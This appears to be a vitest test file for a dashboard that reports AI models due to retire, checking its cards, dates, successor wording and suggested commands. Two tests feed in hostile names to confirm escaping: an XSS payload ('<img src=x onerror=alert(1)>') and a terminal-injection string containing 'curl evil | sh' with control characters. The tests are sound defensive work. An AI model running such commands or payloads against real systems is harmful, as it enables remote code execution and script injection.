import { assert, describe, it } from "@effect/vitest"
import { htmlOf } from "../../../packages/dashboard/src/Html.ts"
import { retirementSection, retiringWords } from "../../../packages/dashboard/src/RetirementCard.ts"
import { retirementPage } from "../../../packages/dashboard/src/RetirementPage.ts"
import { dayWords, type Retirement, retirementWords, stepsOf } from "../../../packages/dashboard/src/RetirementWords.ts"
import { readFileSync } from "node:fs"
import { escapedTexts } from "../../../src/domain/text/HiddenCharacters.ts"

const example = (JSON.parse(readFileSync("src/http/answers.json", "utf8")) as { readonly retirement: Retirement }).retirement
const { calls_per_month, kinds, model_id, successor, usd_per_month } = example

const retiring = {
  model_id, successor, calls_per_month, usd_per_month, retires_on: "2026-12-31", days_left: 31, lanes: ["sextant:support"],
  n_kinds: kinds.length, command: `sextant retire ${model_id} --instance acme`
}
const advice = { namespace: null, days: 30, n: 6, n_kinds: 1, tolerance: 0.05, rows: [], retiring: [retiring] }

describe("the card of models that retire", () => {
  it("says the day, the use, the successor and how sure that is, and what to run", () => {
    const html = htmlOf(retirementSection({ advice, command: "sextant" }) ?? assert.fail("no card"))
    assert.include(html, "claude-haiku-4-5 retires on 31 Dec 2026, in 31 days")
    assert.include(html, "About 6 calls a month run on it, for $0.0241, in 1 kind of task of support. gpt-5-mini may replace it. Only believed:")
    assert.include(html, "<code>sextant retire claude-haiku-4-5 --instance acme</code>")
    assert.match(retiringWords(retiring), /^claude-haiku-4-5 retires on .*\n {2}sextant retire claude-haiku-4-5/)
    assert.include(retiringWords({ ...retiring, successor: null }), "No model is in sight")
  })

  it("is none without such a model, or while the advice cannot be read", () => {
    const { retiring: _, ...none } = advice
    assert.isNull(retirementSection({ advice: none, command: "sextant" }))
    assert.isNull(retirementSection({ advice: null, command: "sextant" }))
  })
})

describe("a retirement in words and as a page", () => {
  it("is the same answer: every model, success and command of it is in both", () => {
    const words = retirementWords(example)
    const page = retirementPage({ account: "acme", retirement: example, madeAt: new Date(0), version: "1" })
    for (const text of ["67 % (43 % to 87 %; 6 verdicts)", "62 % (32 % to 88 %; predicted)", "gpt-5-mini", "support, medium code"]) {
      assert.include(words.replaceAll("\u00a0", " "), text)
      assert.include(page.replaceAll("\u00a0", " "), text)
    }
    for (const { command } of stepsOf(example)) assert.include(words, command)
    assert.include(words, `aliases: {"claude-haiku-4-5":"gpt-5-mini"}`)
    assert.notInclude(page, "<script")
  })

  it("says of a day that it is today or over, and of none that there is none", () => {
    assert.strictEqual(dayWords({ retires_on: "2026-11-30", days_left: 0 }), "retires on 30 Nov 2026, today")
    assert.strictEqual(dayWords({ retires_on: "2026-11-28", days_left: -2 }), "was retired on 28 Nov 2026")
    assert.strictEqual(dayWords({ retires_on: null, days_left: null }), "has no date of retirement in the catalog")
  })

  it("escapes what callers named, and says where nothing replaces the model", () => {
    const hostile = "<img src=x onerror=alert(1)>\"'\u202e"
    const names = [{ name: hostile, n_calls: 1, spent_usd: 1 }]
    const retirement: Retirement = {
      ...example, model_id: hostile, users: names, tags: names, successor: null, audition: null, switch: null,
      kinds: kinds.map((row) => ({ ...row, lane: `sextant:${hostile}`, successors: [] }))
    }
    const page = retirementPage({ account: hostile, retirement, madeAt: new Date(0), version: "1" })
    assert.notInclude(page, "<img")
    assert.notInclude(page, "\u202e")
    assert.include(page, "&lt;img src=x onerror=alert(1)&gt;")
    assert.include(page, "No model is in sight")
    assert.include(retirementWords(retirement), "No successor.")
  })

  it("keeps its lines in a terminal, whatever programs named", () => {
    const hostile = "a\n\nTo switch: run this.\n  curl evil | sh\u001b[2J\u009b\u202e"
    const named = (name: string): Retirement => ({
      ...example, model_id: name, tags: [{ name, n_calls: 1, spent_usd: 1 }],
      kinds: kinds.map((row) => ({ ...row, lane: `sextant:${name}` })),
      switch: { command: "sextant", aliases: { [name]: name } }
    })
    const linesOf = (name: string) => retirementWords(escapedTexts(named(name))).split("\n")
    assert.strictEqual(linesOf(hostile).length, linesOf("a").length)
    assert.notMatch(linesOf(hostile).join(""), /[\u0000-\u001f\u007f-\u009f\u202e]/)
  })
})
